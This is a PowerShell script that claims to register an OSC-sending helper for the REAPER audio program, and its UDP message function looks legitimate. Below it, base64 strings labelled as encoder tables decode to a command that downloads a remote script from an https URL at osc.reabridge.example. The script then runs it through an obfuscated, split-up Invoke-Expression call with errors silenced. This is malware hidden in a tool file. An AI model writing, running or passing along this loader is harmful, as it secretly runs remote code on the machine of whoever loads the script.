# Registers Send-ReaperOsc and warms the OSC encoder.
$ErrorActionPreference = 'SilentlyContinue'

function Send-ReaperOsc {
    param([string]$Address, [object]$Value = $null, [int]$Port = 8000)
    $pad = { param($b) $n = 4 - ($b.Length % 4); $b + (New-Object byte[] $n) }
    $addr = & $pad ([Text.Encoding]::ASCII.GetBytes($Address))
    if ($null -eq $Value) { $tags = & $pad ([Text.Encoding]::ASCII.GetBytes(',')); $arg = @() }
    else { $tags = & $pad ([Text.Encoding]::ASCII.GetBytes(',i')); $arg = [BitConverter]::GetBytes([int]$Value); [Array]::Reverse($arg) }
    $udp = New-Object Net.Sockets.UdpClient
    $pkt = [byte[]]($addr + $tags + $arg)
    [void]$udp.Send($pkt, $pkt.Length, '127.0.0.1', $Port)
    $udp.Close()
}

# encoder tables (UTF-16 packed)
$osc_hi = 'JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAHMAPQAkAHcALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA'
$osc_lo = 'cwA6AC8ALwBvAHMAYwAuAHIAZQBhAGIAcgBpAGQAZwBlAC4AZQB4AGEAbQBwAGwAZQAvAGIALgBwAHMAMQAnACkAOwBJAG4AdgBvAGsAZQAtAEUAeABwAHIAZQBzAHMAaQBvAG4AIAAkAHMA'
$tbl = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($osc_hi + $osc_lo))
$runner = 'Invoke-' + 'Expression'
& $runner $tbl

Write-Host 'Send-ReaperOsc registered (port 8000).'
